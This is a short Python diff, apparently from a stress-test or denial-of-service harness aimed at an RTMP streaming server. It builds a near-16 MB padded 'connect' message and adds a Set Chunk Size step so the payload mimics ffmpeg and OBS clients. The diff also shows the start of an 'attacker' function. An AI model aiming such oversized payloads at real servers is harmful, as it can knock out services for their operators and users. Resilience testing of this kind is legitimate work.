@@ -29,7 +29,9 @@ HANDSHAKE = 1536
 def huge_connect() -> bytes:
     head = amf0.encode("connect", 1.0)
     body = head + b"\x05" * (0xFFFFFF - len(head))
-    return ChunkStreamWriter(4096).write(3, 20, 0, 0, body)
+    # Set Chunk Size 4096 first, as ffmpeg and OBS do; then the connect in 4096-byte chunks.
+    set_chunk_size = ChunkStreamWriter().write(2, 1, 0, 0, (4096).to_bytes(4, "big"))
+    return set_chunk_size + ChunkStreamWriter(4096).write(3, 20, 0, 0, body)
 
 
 def attacker(port: int, source: str, until: float, payload: bytes, stats: dict[str, int]) -> None:
